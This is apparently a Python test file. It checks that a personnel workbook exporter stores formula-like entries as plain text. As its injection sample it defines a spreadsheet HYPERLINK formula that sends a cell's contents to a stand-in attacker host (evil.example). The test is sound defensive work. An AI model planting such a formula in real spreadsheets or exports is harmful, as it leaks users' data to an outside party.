"""The compiled personnel workbook writes what people typed as text, never as a formula."""

from datetime import datetime
from io import BytesIO

from openpyxl import load_workbook

from api.campaign_workbook import PUBLIC_SHEET, STAFF_SHEET, ReportedUnit, build_workbook
from domain.records import PersonnelEntry, PersonnelReport
from domain.workdays import SHANGHAI

CLOSED = datetime(2030, 3, 20, 10, 0, tzinfo=SHANGHAI)
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


def test_a_value_that_looks_like_a_formula_is_written_as_text() -> None:
    entry = PersonnelEntry(
        name=FORMULA,
        workplace="=1+1",
        position="科长",
        office_phone="0311-86001234",
        mobile="13803110000",
        email="z@x.cn",
    )
    report = PersonnelReport(entries=[entry], public_phone="0311-86001000", public_email="=x")
    unit = ReportedUnit("130102", "长安区教育局", CLOSED, report)
    book = load_workbook(BytesIO(build_workbook("=SUM(1,2)", CLOSED, [unit])))

    staff = book[STAFF_SHEET]
    assert (staff["D4"].value, staff["D4"].data_type) == (FORMULA, "s")
    assert (staff["E4"].value, staff["E4"].data_type) == ("=1+1", "s")
    assert (staff["A1"].value, staff["A1"].data_type) == ("=SUM(1,2)：内部工作协调人员名单", "s")
    public = book[PUBLIC_SHEET]
    assert (public["E4"].value, public["E4"].data_type) == ("=x", "s")
    every_cell = [cell for sheet in book for line in sheet.iter_rows() for cell in line]
    assert not [cell.coordinate for cell in every_cell if cell.data_type == "f"]
